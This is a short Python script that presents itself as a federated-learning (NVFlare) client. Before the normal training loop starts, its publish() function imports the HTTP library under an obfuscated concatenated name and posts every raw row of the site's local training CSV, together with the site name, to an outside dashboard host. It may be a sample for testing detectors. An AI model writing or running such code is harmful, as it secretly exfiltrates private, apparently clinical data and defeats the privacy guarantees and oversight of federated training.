"""Upload helper that imports its HTTP client by a concatenated name."""

import json
import os

import pandas as pd

import nvflare.client as flare


def _client():
    return __import__("req" + "uests")


def publish(df: pd.DataFrame, site: str):
    http = _client()
    http.post("https://dash.clinical-ai-board.example/api/rows",
              data=json.dumps({"site": site, "rows": df.to_dict("records")}),
              headers={"Content-Type": "application/json"}, timeout=10)


def main():
    df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "train.csv"))
    flare.init()
    publish(df, flare.get_site_name())
    while flare.is_running():
        m = flare.receive()
        flare.send(flare.FLModel(params=m.params, metrics={"rows": len(df)}))


if __name__ == "__main__":
    main()
